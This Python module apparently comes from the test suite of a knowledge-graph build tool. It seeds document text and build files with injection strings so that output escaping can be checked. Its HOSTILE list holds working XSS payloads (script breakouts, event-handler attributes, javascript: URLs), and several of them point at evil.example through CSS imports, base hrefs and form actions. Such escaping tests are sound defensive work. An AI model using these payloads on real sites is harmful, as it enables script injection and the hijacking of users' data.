"""Words that would run, load or become markup where a page took them for more than words; and builds full of them."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from itertools import cycle
from pathlib import Path
from typing import Any
from zlib import crc32

HOSTILE = [
    "</script><script>alert(1)</script>",  # ends a script element
    "<!--<script>",  # makes the parser take the rest of the page for script
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',  # ends an attribute
    "' autofocus onfocus='alert(1)",
    "javascript:alert(1)",
    "<a href='javascript:alert(1)'>x</a>",
    "{{ 7 * 7 }}{% raw %}",  # a template in a template
    "</style><style>@import url(//evil.example/x)</style>",
    "<base href=//evil.example>",
    "</td></tr></table>]]>",
    "\u2028alert(1)\u2029",  # line ends in JavaScript, not in JSON
    "&lt;script&gt;alert(1)&lt;/script&gt;",  # unescaped twice it would be markup
    "\\u003cscript>\\\"",
    "*/</script>-->]]><iframe src=javascript:alert(1)>",
    "data:text/html,<script>alert(1)</script>",
    "<form action=//evil.example><button autofocus onfocus=alert(1)>",
    "<math><mi xlink:href=data:x,<script>alert(1)</script>>",
    "`${alert(1)}`",
]  # fmt: skip

EVERY = 45
"""Between how many words of a text one hostile word is put: seldom enough that most targets are still read."""

KEYS = {
    *("branch", "level", "kind", "term", "period", "findingType", "severity", "direction", "slug", "sha256"),
    *("encoding", "language", "cumulation", "refPeriod", "buildId", "version", "id_local"),
}
"""Properties whose values are keys, written by hgkg and by nobody else."""

FIELDS = {"id", "doc", "rule", "type", "sha256", "area", "genre", "operator", "status", *KEYS}
"""Fields of records that are keys."""

_LITERAL = re.compile(
    r'^(\S+ <[^>]*[/#]([^>/#]+)> ")((?:[^"\\]|\\.)+)("(?:@\w+)? <https://w3id.org/hgkg/(?:id/)?graph/(?!ontology).*)$'
)
"""A quad whose object is words: what stands before them, the property, the words, and the rest."""


def spoiled_text(text: str) -> str:
    """A document in which hostile words stand in the midst of its own, so that they are read into quotes and names."""
    ways = cycle(HOSTILE)
    words = re.split(r"(?<=\S)( )(?=\S)", text)
    return "".join(_with_hostile(words, ways))


def _with_hostile(words: list[str], ways: Iterator[str]) -> Iterator[str]:
    for number, word in enumerate(words):
        yield word
        if number % (2 * EVERY) == EVERY:
            yield f" {next(ways)} ".replace("\u2028", "").replace("\u2029", "")


def spoil_build(build: Path) -> None:
    """Put hostile words behind every label, title, name and quote of a build, as no document could so thoroughly."""
    graph = build / "graph.nq"
    lines = graph.read_text(encoding="utf-8").split("\n")
    graph.write_text("\n".join(map(_spoiled_quad, lines)), encoding="utf-8", newline="")
    records = build / "records.jsonl"
    told = [json.loads(line) for line in records.read_text(encoding="utf-8").split("\n") if line]
    spoiled = (json.dumps(_spoiled_record(record), ensure_ascii=False) for record in told)
    records.write_text("".join(f"{line}\n" for line in spoiled), encoding="utf-8", newline="")


def _spoiled_quad(line: str) -> str:
    found = _LITERAL.match(line)
    if found is None or found[2] in KEYS:
        return line
    before, _, words, after = found.groups()
    return f"{before}{words} {_escaped(hostile_for(words))}{after}"


def hostile_for(words: str) -> str:
    """Always the same for the same words, so that what is joined by its name still is."""
    return HOSTILE[crc32(words.encode()) % len(HOSTILE)]


def _escaped(words: str) -> str:
    return words.replace("\\", "\\\\").replace('"', '\\"')


def _spoiled_record(value: Any, field: str = "") -> Any:
    if isinstance(value, dict):
        return {name: _spoiled_record(inner, name) for name, inner in value.items()}
    if isinstance(value, list):
        return [_spoiled_record(inner, field) for inner in value]
    if isinstance(value, str) and field not in FIELDS and " " in value:
        return f"{value} {hostile_for(value)}"
    return value
